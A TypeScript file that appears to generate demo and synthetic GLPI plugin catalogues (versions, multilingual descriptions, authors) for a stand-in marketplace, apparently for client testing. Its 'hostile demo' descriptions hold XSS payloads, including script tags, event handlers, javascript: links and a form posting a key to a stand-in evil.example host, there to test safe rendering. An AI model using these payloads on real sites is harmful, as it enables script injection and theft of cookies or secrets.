azuread | Azure AD sync | cloudgate/azuread | CloudGate | authentication,import | Synchronise users and groups from Entra ID | Synchronisez utilisateurs et groupes depuis Entra ID | profile=multi
okta | Okta | cloudgate/okta | CloudGate | authentication,security | Sign in with Okta | Connexion avec Okta
keycloak | Keycloak | cloudgate/keycloak | CloudGate | authentication,security | Sign in with Keycloak realms | Connexion avec des royaumes Keycloak
vaultsecrets | Vault secrets | secops-lab/vaultsecrets | SecOps Lab | security,integration | Keep passwords in HashiCorp Vault instead of GLPI | Gardez les mots de passe dans HashiCorp Vault plutôt que dans GLPI
sshkeys | SSH keys | secops-lab/sshkeys | SecOps Lab | security,inventory | Inventory SSH keys deployed on servers | Inventoriez les clés SSH déployées sur les serveurs
printqueue | Print queue | netsmith/printqueue | Netsmith | printers,reports | Print jobs per user and per printer | Travaux d'impression par utilisateur et par imprimante
cartridgealerts | Cartridge alerts | netsmith/cartridgealerts | Netsmith | printers,notifications | Order cartridges before they run out | Commandez les cartouches avant qu'elles ne soient vides
energy | Energy | greenit-lab/energy | GreenIT Lab | compliance,reports | Power consumption of assets | Consommation électrique du matériel | profile=new11
recycling | Recycling | greenit-lab/recycling | GreenIT Lab | asset-management,compliance | Track reuse and recycling of old equipment | Suivez le réemploi et le recyclage du vieux matériel
coldstorage | Cold storage | greenit-lab/coldstorage | GreenIT Lab | datacenter,asset-management | Stock of spare parts per site | Stock de pièces de rechange par site
helpdeskhours | Helpdesk opening hours | helpwise/helpdeskhours | Helpwise | helpdesk,user-interface | Show opening hours and holidays to users | Affichez les horaires et jours fériés aux utilisateurs
entitiescopy | Entities copy | uxcraft/entitiescopy | UX Craft | administration | Copy settings from one entity to another | Copiez les réglages d'une entité vers une autre
massupdate | Mass update plus | uxcraft/massupdate | UX Craft | administration,import | Update thousands of items from a spreadsheet | Mettez à jour des milliers d'éléments depuis un tableur
mapview | Map view | netsmith/mapview | Netsmith | asset-management,user-interface | Show locations and assets on a map | Affichez lieux et matériel sur une carte
hostiledemo | Hostile demo | marketdesk-test/hostiledemo | Marketdesk tests | security | Demo plugin with <b>hostile</b> markup in its descriptions | Plugin de démonstration avec du balisage <b>hostile</b> | hostile=1
verbosedoc | Verbose documentation | marketdesk-test/verbosedoc | Marketdesk tests | knowledge-base | A plugin with a very long description | Un plugin avec une très longue description | verbose=1
htmlshowcase | HTML showcase | marketdesk-test/htmlshowcase | Marketdesk tests | user-interface | Old-style description written in HTML | Description à l'ancienne écrite en HTML | html=1;profile=legacy95
unicodedemo | Unicode demo ✓ | marketdesk-test/unicodedemo | Zoë Ångström, 山田太郎 | user-interface | Descriptions in many scripts: 日本語, العربية, emoji 🚀 | Descriptions dans plusieurs écritures : 日本語, العربية, emoji 🚀 | unicode=1
frenchonly | Seulement en français | marketdesk-test/frenchonly | Marketdesk tests | user-interface |  | Un plugin décrit uniquement en français | frenchonly=1
emptydesc | Empty description | marketdesk-test/emptydesc | Marketdesk tests | administration |  |  | emptydesc=1
longname | Extended Asset Lifecycle Management and Procurement Tracking for Multi-Entity Deployments | marketdesk-test/longname | Marketdesk tests, A Very Long Author Name Indeed, Another Contributor, Yet Another Contributor, Documentation Team | asset-management,finance,reports,workflow | A short description that is not short at all, because some authors write their whole feature list here, with every supported GLPI version, every optional dependency and a thank-you note to each contributor, which a client has to cut somewhere | Une description courte qui ne l'est pas du tout, car certains auteurs y écrivent toute la liste des fonctionnalités, chaque version de GLPI prise en charge, chaque dépendance optionnelle et un remerciement à chaque contributeur
`;

interface Seed {
  key: string;
  name: string;
  repo: string;
  authors: string[];
  tags: string[];
  en: string;
  fr: string;
  options: Record<string, string>;
}

function parseTable(table: string): Seed[] {
  return table
    .split('\n')
    .filter((line) => line.trim() !== '')
    .map((line) => {
      const cols = line.split(' | ').map((c) => c.trim());
      const [key = '', name = '', repo = '', authors = '', tags = '', en = '', fr = '', options = ''] = cols;
      if (cols.length < 7 || !/^[a-z0-9]+$/.test(key)) throw new Error(`catalogue table: bad line ${line}`);
      return {
        key,
        name,
        repo,
        authors: authors.split(', ').filter(Boolean),
        tags: tags.split(',').filter(Boolean),
        en,
        fr,
        options: Object.fromEntries(
          options
            .split(';')
            .filter(Boolean)
            .map((o) => o.split('=') as [string, string]),
        ),
      };
    });
}

// --- dates ---

const DAY = 86_400_000;
const EPOCH_START = Date.UTC(2012, 0, 1);
const CATALOGUE_END = Date.UTC(2025, 11, 15);

function day(ms: number): string {
  return new Date(ms).toISOString().slice(0, 10);
}

// --- authors ---

class AuthorBook {
  readonly #ids = new Map<string, number>();
  id(name: string): number {
    let id = this.#ids.get(name);
    if (id === undefined) {
      id = 10 + this.#ids.size * 3;
      this.#ids.set(name, id);
    }
    return id;
  }
}

// --- versions ---

interface Era {
  compat: () => string[];
  count: number;
  /** Last version of this era is a prerelease. */
  pre?: boolean;
}

const PRE: readonly { suffix: string; stability: string }[] = [
  { suffix: '-beta1', stability: 'beta' },
  { suffix: '-rc1', stability: 'rc' },
  { suffix: '-alpha2', stability: 'alpha' },
  { suffix: '-beta.2', stability: 'beta' },
];

/**
 * A plausible version history for a profile:
 * - current: 9.5, 10.0 and 11.0 versions (the last 11.0 one sometimes a prerelease);
 * - legacy10: up to 10.0 (no GLPI 11 version: GLPI 11 sees `versions: []`);
 * - legacy95: 9.4/9.5 only (GLPI 10 and 11 see `versions: []`);
 * - new11: GLPI 11 only;
 * - exact: a 10.0 version released for exactly `10.0.3` (GLPI 10.0.5 sees nothing, yllen/pdf#35);
 * - multi: versions with several compatibility rows (`~10.0.0` + `~11.0.0`, overlapping `~10.0.0`
 *   + `~10.0.11`: the same num twice for GLPI 10.0.11+);
 * - twopart: two-part compatibility strings (`9.5`, `10.0`, `11.0`).
 */
function versionsFor(
  r: Rand,
  profile: Profile,
  added: number,
  updated: number,
  formats: { main: ArchiveFormat; old: ArchiveFormat },
): StandinVersion[] {
  const v95 = (): string[] => [r.pick(['9.5', '~9.5.0', '~9.5.0', '9.5'])];
  const v10 = (): string[] => [r.pick(['~10.0.0', '~10.0.0', '~10.0.0', '10.0', '~10.0.3', '~10.0.7'])];
  const v11 = (): string[] => [r.chance(0.85) ? '~11.0.0' : '11.0'];
  const eras: Era[] = [];
  switch (profile) {
    case 'current':
      eras.push({ compat: v95, count: r.int(1, 2) }, { compat: v10, count: r.int(2, 3) });
      eras.push({ compat: v11, count: r.int(1, 2), pre: r.chance(0.3) });
      break;
    case 'legacy10':
      eras.push({ compat: v95, count: r.int(1, 2) }, { compat: v10, count: r.int(2, 4) });
      break;
    case 'legacy95':
      eras.push({ compat: () => [r.pick(['9.4', '~9.4.0'])], count: 1 }, { compat: v95, count: r.int(1, 3) });
      break;
    case 'new11':
      eras.push({ compat: v11, count: r.int(2, 3), pre: r.chance(0.5) });
      break;
    case 'exact':
      eras.push({ compat: () => ['9.5'], count: 1 }, { compat: () => ['10.0.3'], count: 1 });
      break;
    case 'multi':
      eras.push({ compat: v95, count: 1 }, { compat: () => ['~10.0.0', '~10.0.11'], count: 1 });
      eras.push({ compat: () => ['~10.0.0', '~11.0.0'], count: r.int(1, 2) });
      break;
    case 'twopart':
      eras.push({ compat: () => ['9.5'], count: r.int(1, 2) }, { compat: () => ['10.0'], count: 2 });
      eras.push({ compat: () => ['11.0'], count: 1 });
      break;
  }
  let major = r.pick([1, 1, 1, 2, 2, 2, 3, 4, 5, 7]);
  let minor = r.int(0, 8);
  const explicitStable = r.chance(0.3);
  const total = eras.reduce((n, e) => n + e.count, 0);
  const versions: StandinVersion[] = [];
  let index = 0;
  for (const [e, era] of eras.entries()) {
    if (e > 0) {
      if (era.compat().some((c) => c.includes('11.')) && r.chance(0.4)) {
        major += 1;
        minor = 0;
      } else minor += r.int(1, 2);
    }
    const compat = era.compat();
    for (let i = 0; i < era.count; i++, index++) {
      const pre = era.pre === true && e === eras.length - 1 && i === era.count - 1 ? r.pick(PRE) : null;
      // A late 10.0 release often needs a recent 10.0 bugfix release.
      const needsRecent = compat.length === 1 && compat[0] === '~10.0.0' && i > 0 && i === era.count - 1;
      const compatibility = needsRecent && r.chance(0.35) ? ['~10.0.11'] : compat;
      // A prerelease is the start of the next minor line (`1.4.0-beta1` after `1.3.1`).
      const num = pre ? `${major}.${minor + 1}.0${pre.suffix}` : `${major}.${minor}.${i}`;
      const when = total === 1 ? updated : added + Math.round(((updated - added) * index) / (total - 1));
      const version: StandinVersion = {
        num,
        compatibility,
        format: index < total - 2 && r.chance(0.25) ? formats.old : formats.main,
        date: day(when),
      };
      if (pre) version.stability = pre.stability;
      else if (explicitStable) version.stability = 'stable';
      versions.push(version);
    }
  }
  return versions;
}

/** Real version histories of a few well-known plugins (formats as their releases). */
const KNOWN_VERSIONS: Record<string, [num: string, compat: string[], stability?: string][]> = {
  fields: [
    ['1.12.9', ['9.5']],
    ['1.21.19', ['~10.0.0']],
    ['1.21.22', ['~10.0.0']],
    ['1.21.23', ['~10.0.11']],
    ['1.22.0', ['~11.0.0']],
    ['1.22.1', ['~11.0.0']],
    ['1.23.0-beta1', ['~11.0.0'], 'beta'],
  ],
  formcreator: [
    ['2.12.5', ['9.5']],
    ['2.13.8', ['~10.0.0']],
    ['2.13.9', ['~10.0.0']],
    ['2.13.10', ['~10.0.0']],
  ],
  glpiinventory: [
    ['1.0.6', ['~10.0.0']],
    ['1.5.3', ['~10.0.11']],
    ['1.5.4', ['~10.0.11']],
    ['1.6.0', ['~11.0.0']],
    ['1.6.1', ['~11.0.0']],
  ],
  datainjection: [
    ['2.10.3', ['9.5'], 'stable'],
    ['2.13.5', ['~10.0.0'], 'stable'],
    ['2.14.1', ['~11.0.0'], 'stable'],
  ],
  fusioninventory: [
    ['9.5+3.0', ['9.5']],
    ['9.5+4.2', ['9.5']],
  ],
  ocsinventoryng: [
    ['1.7.3', ['9.5']],
    ['2.0.5', ['~10.0.0']],
    ['2.1.0-rc1', ['~11.0.0'], 'rc'],
  ],
};

// --- descriptions ---

const README_WORDS = {
  en: {
    features: 'Features',
    install: 'Installation',
    installText: 'Install it from the GLPI marketplace, or read the',
    doc: 'documentation',
    issues: 'Report a problem on the',
    tracker: 'issue tracker',
    compat: 'Works with',
  },
  fr: {
    features: 'Fonctionnalités',
    install: 'Installation',
    installText: 'Installez-le depuis le marketplace de GLPI, ou lisez la',
    doc: 'documentation',
    issues: 'Signalez un problème sur le',
    tracker: 'gestionnaire de tickets',
    compat: 'Fonctionne avec',
  },
} as const;

function glpiLines(versions: readonly StandinVersion[]): string {
  const lines = new Set<string>();
  for (const v of versions)
    for (const c of v.compatibility) {
      const m = /(\d+\.\d+)/.exec(c);
      if (m?.[1]) lines.add(m[1]);
    }
  return [...lines].map((l) => `GLPI ${l}`).join(', ') || 'GLPI';
}

function markdownLong(
  lang: 'en' | 'fr',
  name: string,
  short: string,
  tags: readonly string[],
  urls: { readme: string; issues: string },
  versions: readonly StandinVersion[],
  r: Rand,
): string {
  const w = README_WORDS[lang];
  const features = tags.map((t) => `- ${tagDefinition(t)?.feature[lang] ?? t}`);
  features.push(`- ${w.compat} **${glpiLines(versions)}**`);
  const parts = [`## ${name}`, '', `${short}.`, '', `### ${w.features}`, '', ...features, ''];
  if (r.chance(0.25)) {
    parts.push(
      lang === 'en' ? 'Configuration example:' : 'Exemple de configuration :',
      '',
      '```php',
      `$CFG_GLPI['${name.toLowerCase().replace(/[^a-z]+/g, '_')}_enabled'] = true;`,
      '```',
      '',
    );
  }
  if (r.chance(0.15)) {
    parts.push(
      lang === 'en' ? '| Setting | Default |' : '| Réglage | Défaut |',
      '| --- | --- |',
      `| ${lang === 'en' ? 'Enabled' : 'Activé'} | \`true\` |`,
      `| ${lang === 'en' ? 'Frequency' : 'Fréquence'} | 1 h |`,
      '',
    );
  }
  parts.push(`### ${w.install}`, '', `${w.installText} [${w.doc}](${urls.readme}).`, '');
  parts.push(`${w.issues} [${w.tracker}](${urls.issues}).`);
  return parts.join('\n');
}

function htmlLong(lang: 'en' | 'fr', name: string, short: string, homepage: string): string {
  if (lang === 'fr')
    return (
      `<h2>${name}</h2><p>${short}.<br/>Ce plugin fonctionne avec GLPI&nbsp;9.5 &amp; plus.</p>` +
      `<ul><li><b>Simple</b> à configurer</li><li><i>Léger</i></li></ul>` +
      `<p>Plus d&#39;informations sur <a href="${homepage}" target="_blank">le site du projet</a>.</p>` +
      `<table border="1"><tr><td>Version</td><td>GLPI</td></tr><tr><td>1.0</td><td>9.5</td></tr></table>`
    );
  return (
    `<h2>${name}</h2><p>${short}.<br/>This plugin works with GLPI&nbsp;9.5 &amp; later.</p>` +
    `<ul><li><b>Easy</b> to configure</li><li><i>Lightweight</i></li></ul>` +
    `<p>More information on <a href="${homepage}" target="_blank">the project site</a>.</p>` +
    `<table border="1"><tr><td>Version</td><td>GLPI</td></tr><tr><td>1.0</td><td>9.5</td></tr></table>`
  );
}

const HOSTILE_EN = [
  '## Hostile demo',
  '',
  'This plugin exists to check that descriptions are rendered safely. Nothing below may run.',
  '',
  '<img src=x onerror=alert(1)>',
  '',
  '<script>alert(1)</script>',
  '',
  '- [click](javascript:alert(1))',
  '- [also click](JaVaScRiPt:alert(1))',
  '- <a href="javascript:alert(2)">an HTML link</a>',
  '- <iframe src="https://evil.example/frame"></iframe>',
  '- <svg onload=alert(3)></svg>',
  '- <style>body { display: none }</style>',
  '- ![tracking pixel](https://evil.example/pixel.png)',
  '- [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '- [a safe link](https://example.org/hostiledemo)',
  '',
  '<form action="https://evil.example/steal"><input name="key"><button>Send</button></form>',
  '',
  '"><script>alert(document.cookie)</script>',
].join('\n');

const HOSTILE_FR = [
  '## Démo hostile',
  '',
  'Ce plugin vérifie que les descriptions sont affichées sans danger. Rien ci-dessous ne doit s’exécuter.',
  '',
  '<img src=x onerror=alert(1)>',
  '',
  '<script>alert(1)</script>',
  '',
  '- [cliquez](javascript:alert(1))',
  '- <a href="javascript:alert(2)">un lien HTML</a>',
  '- <svg onload=alert(3)></svg>',
  '- [un lien sûr](https://example.org/hostiledemo)',
].join('\n');

function verboseLong(lang: 'en' | 'fr', name: string): string {
  const parts = [`## ${name}`, ''];
  for (let s = 1; s <= 60; s++) {
    parts.push(lang === 'en' ? `### Chapter ${s}` : `### Chapitre ${s}`, '');
    for (let p = 0; p < 3; p++)
      parts.push(
        lang === 'en'
          ? `Paragraph ${p + 1} of chapter ${s}. This text goes on and on so that a client has to cope with a long description: scrolling, truncation in lists, search over long text and memory use. It mentions GLPI, plugins, tickets, assets and the marketplace many times.`
          : `Paragraphe ${p + 1} du chapitre ${s}. Ce texte continue encore et encore pour qu’un client doive gérer une longue description : défilement, troncature dans les listes, recherche dans un long texte et mémoire. Il parle de GLPI, de plugins, de tickets, de matériel et du marketplace.`,
        '',
      );
    parts.push(`- ${lang === 'en' ? 'Item' : 'Élément'} ${s}.1`, `- ${lang === 'en' ? 'Item' : 'Élément'} ${s}.2`, '');
  }
  parts.push(`https://example.org/${'a-very-long-unbroken-path-segment-'.repeat(20)}end`, '');
  parts.push(`[${lang === 'en' ? 'Documentation' : 'Documentation'}](https://example.org/verbosedoc)`);
  return parts.join('\n');
}

const UNICODE_EXTRA: StandinDescription[] = [
  {
    lang: 'ja',
    short_description: '多言語の説明を持つデモプラグイン',
    long_description:
      '## ユニコード\n\n- 日本語のテキスト\n- 絵文字 🚀✨\n\n[ドキュメント](https://example.org/unicodedemo)',
  },
  {
    lang: 'ar',
    short_description: 'إضافة تجريبية بأوصاف متعددة اللغات',
    long_description:
      '## يونيكود\n\n- نص من اليمين إلى اليسار\n- أرقام ١٢٣\n\n[التوثيق](https://example.org/unicodedemo)',
  },
];

const EXTRA_LANGS: Record<string, (name: string) => StandinDescription> = {
  es: (name) => ({
    lang: 'es',
    short_description: `${name}: complemento para GLPI`,
    long_description: `## ${name}\n\nComplemento para GLPI.\n\n- Fácil de configurar\n\n[Documentación](https://example.org/${encodeURIComponent(name)})`,
  }),
  de: (name) => ({
    lang: 'de',
    short_description: `${name}: Plugin für GLPI`,
    long_description: `## ${name}\n\nEin Plugin für GLPI.\n\n- Einfach zu konfigurieren\n\n[Dokumentation](https://example.org/${encodeURIComponent(name)})`,
  }),
  pt_BR: (name) => ({
    lang: 'pt_BR',
    short_description: `${name}: plugin para o GLPI`,
    long_description: `## ${name}\n\nUm plugin para o GLPI.\n\n- Fácil de configurar\n\n[Documentação](https://example.org/${encodeURIComponent(name)})`,
  }),
};

// --- building a plugin ---

const LICENSES = ['GPLv2+', 'GPLv2+', 'GPLv2+', 'GPLv3+', 'GPL v2+', 'AGPLv3+', 'MIT', 'Apache-2.0', 'GPLv3'];

function formatsFor(owner: string, r: Rand): { main: ArchiveFormat; old: ArchiveFormat } {
  // pluginsGLPI and glpi-project publish .tar.bz2 releases; others vary.
  if (owner === 'pluginsGLPI' || owner === 'glpi-project') return { main: 'tar.bz2', old: r.pick(['zip', 'tar.gz']) };
  if (owner === 'InfotelGLPI') return { main: 'tar.gz', old: 'tar.bz2' };
  return { main: r.pick(['zip', 'tar.gz', 'tar.bz2']), old: r.pick(['zip', 'tar.gz']) };
}

function buildPlugin(seed: Seed, id: number, rank: number, authors: AuthorBook, salt: number): StandinPlugin {
  const r = new Rand(hashSeed(seed.key, salt));
  const o = seed.options;
  // Table plugins without a profile are mostly maintained; GLPI 11-only ones are named in the table.
  const profile: Profile =
    (o.profile as Profile | undefined) ??
    (r.chance(0.7) ? 'current' : r.pick(['legacy10', 'legacy10', 'twopart', 'twopart', 'multi', 'legacy95']));
  const owner = seed.repo.split('/')[0] ?? '';
  const gh = `https://github.com/${seed.repo}`;
  const raw = `https://raw.githubusercontent.com/${seed.repo}`;
  const branch = r.chance(0.7) ? 'main' : 'master';

  // Dates: legacy plugins stopped in 2021-2022, GLPI 11-only ones appeared in late 2024.
  let added: number;
  let updated: number;
  if (profile === 'new11') {
    added = Date.UTC(2024, 8, 1) + r.int(0, 300) * DAY;
    updated = Math.min(CATALOGUE_END, added + r.int(20, 400) * DAY);
  } else if (profile === 'legacy95') {
    added = EPOCH_START + r.int(0, 6 * 365) * DAY;
    updated = Math.min(Date.UTC(2022, 5, 30), added + r.int(400, 3000) * DAY);
  } else {
    added = EPOCH_START + r.int(0, 11 * 365) * DAY;
    updated = Math.max(added + 90 * DAY, CATALOGUE_END - r.int(0, 700) * DAY);
  }
  if (updated > CATALOGUE_END) updated = CATALOGUE_END;

  const formats = formatsFor(owner, r);
  const known = KNOWN_VERSIONS[seed.key];
  const versions: StandinVersion[] = known
    ? known.map(([num, compatibility, stability], i) => {
        const v: StandinVersion = {
          num,
          compatibility,
          format: formats.main,
          date: day(added + Math.round(((updated - added) * i) / Math.max(1, known.length - 1))),
        };
        if (stability) v.stability = stability;
        return v;
      })
    : versionsFor(r, profile, added, updated, formats);

  const readme = `${gh}/blob/${branch}/README.md`;
  const issues = `${gh}/issues`;
  const descriptions: StandinDescription[] = [];
  const hostile = o.hostile === '1';
  const langs: ('en' | 'fr')[] = o.frenchonly === '1' ? ['fr'] : ['en', 'fr'];
  for (const lang of langs) {
    const short = lang === 'en' ? seed.en : seed.fr;
    let long: string;
    if (hostile) long = lang === 'en' ? HOSTILE_EN : HOSTILE_FR;
    else if (o.emptydesc === '1') long = '';
    else if (o.verbose === '1') long = verboseLong(lang, seed.name);
    else if (o.html === '1') long = htmlLong(lang, seed.name, short, gh);
    else long = markdownLong(lang, seed.name, short, seed.tags, { readme, issues }, versions, r);
    descriptions.push({ lang, short_description: short, long_description: long });
  }
  if (o.unicode === '1') descriptions.push(...UNICODE_EXTRA);
  for (const extra of (o.langs ?? '').split(',').filter(Boolean)) {
    const make = EXTRA_LANGS[extra];
    if (make) descriptions.push(make(seed.name));
  }

  const offers = o.offers as PremiumTier | undefined;
  const popularity = Math.pow(0.955, rank) * (0.7 + 0.6 * r.next());
  return {
    id,
    key: seed.key,
    name: seed.name,
    logo_url: r.chance(0.75) ? `${raw}/${branch}/${seed.key}.png` : null,
    xml_url: `${raw}/${branch}/${seed.key}.xml`,
    homepage_url: gh,
    download_url: `${gh}/releases`,
    issues_url: issues,
    readme_url: readme,
    changelog_url: r.chance(0.7) ? `${gh}/blob/${branch}/CHANGELOG.md` : null,
    license: o.license ?? (owner === 'pluginsGLPI' || owner === 'InfotelGLPI' ? 'GPLv2+' : r.pick(LICENSES)),
    date_added: day(added),
    date_updated: day(updated),
    download_count: Math.max(3, Math.round(900_000 * popularity)),
    note: r.chance(0.12) ? 0 : Math.round((2.5 + 2.5 * r.next()) * 10) / 10,
    authors: seed.authors.map((name) => ({ id: authors.id(name), name })),
    descriptions,
    tags: seed.tags,
    screenshots: r.chance(0.15)
      ? Array.from({ length: r.int(1, 3) }, (_, i) => `${raw}/${branch}/screenshots/${seed.key}-${i + 1}.png`)
      : [],
    required_offers: offers ? [...OFFER_LISTS[offers]] : null,
    versions,
  };
}

let demo: StandinPlugin[] | null = null;

/**
 * The demo catalogue (~160 plugins), a fresh deep copy on each call. Ordered like upstream's
 * table (by id, i.e. submission order); GLPI sorts on its side.
 */
export function demoCatalogue(): StandinPlugin[] {
  if (!demo) {
    const seeds = parseTable(TABLE);
    const authors = new AuthorBook();
    const built = seeds.map((seed, rank) => buildPlugin(seed, 0, rank, authors, 0));
    // ids follow the submission date, like an auto-increment column.
    built.sort((a, b) => a.date_added.localeCompare(b.date_added) || a.key.localeCompare(b.key));
    built.forEach((p, i) => (p.id = 100 + i * 7));
    demo = built;
  }
  return structuredClone(demo);
}

/** Demo plugins by the lowest tier their `required_offers` grant (registered: any running subscription). */
export function demoPremiumKeys(): Record<PremiumTier, string[]> {
  const out: Record<PremiumTier, string[]> = { registered: [], basic: [], standard: [], advanced: [] };
  for (const p of demoCatalogue()) {
    const lowest = p.required_offers?.[0];
    const tier = (Object.keys(OFFER_LISTS) as PremiumTier[]).find((t) => OFFER_LISTS[t][0] === lowest);
    if (tier) out[tier].push(p.key);
  }
  return out;
}

// --- synthetic catalogues ---

const SYLLABLES = ['ka', 'lo', 'mi', 'ne', 'ru', 'ta', 'vo', 'zi', 'pe', 'do', 'fa', 'gu', 'bi', 'so', 'the', 'war'];
const ADJECTIVES = ['Smart', 'Quick', 'Advanced', 'Simple', 'Unified', 'Extended', 'Auto', 'Open', 'Secure', 'Green'];
const NOUNS = [
  'Inventory',
  'Tickets',
  'Reports',
  'Forms',
  'Assets',
  'Dashboard',
  'Alerts',
  'Login',
  'Export',
  'Import',
  'Network',
  'Projects',
  'Mail',
  'Budget',
  'Planning',
  'Printers',
];

/**
 * A catalogue of `n` plugins with the demo catalogue's shape (every profile, premium tiers, all
 * three archive formats), distinct keys (letters then digits, /^[a-z0-9]+$/), deterministic for a
 * given (n, seed). 10,000 plugins take well under a second.
 */
export function syntheticCatalogue(n: number, seed = 1): StandinPlugin[] {
  if (!Number.isInteger(n) || n < 0) throw new RangeError(`syntheticCatalogue: n must be a non-negative integer`);
  const r = new Rand(hashSeed('synthetic', seed));
  const authors = new AuthorBook();
  const owners = ['acme-glpi', 'opensource-it', 'servicedesk-tools', 'pluginsGLPI', 'InfotelGLPI', 'netsmith'];
  const plugins: StandinPlugin[] = [];
  for (let i = 0; i < n; i++) {
    const word = Array.from({ length: r.int(2, 3) }, () => r.pick(SYLLABLES)).join('');
    const key = `${word}${i}`;
    const noun = r.pick(NOUNS);
    const name = `${r.pick(ADJECTIVES)} ${noun} ${i}`;
    const tagIds = [...new Set(Array.from({ length: r.int(1, 3) }, () => r.pick(TAG_VOCABULARY).id))];
    const owner = r.pick(owners);
    const premium = r.next();
    const options: Record<string, string> = { profile: r.pick(PROFILES) };
    if (premium < 0.02) options.offers = 'advanced';
    else if (premium < 0.04) options.offers = 'standard';
    else if (premium < 0.06) options.offers = 'basic';
    const s: Seed = {
      key,
      name,
      repo: `${owner}/${key}`,
      authors: [r.pick(["Teclib'", 'Infotel', 'Probesys', 'TICgal', 'Netsmith', 'Helpwise', `Dev ${i % 97}`])],
      tags: tagIds,
      en: `${name}: ${r.pick(['manage', 'report on', 'automate', 'import', 'export'])} ${noun.toLowerCase()} in GLPI`,
      fr: `${name} : ${r.pick(['gérez', 'analysez', 'automatisez', 'importez', 'exportez'])} ${noun.toLowerCase()} dans GLPI`,
      options,
    };
    plugins.push(buildPlugin(s, i + 1, Math.min(i, 200) + r.int(0, 60), authors, seed));
  }
  return plugins;
}
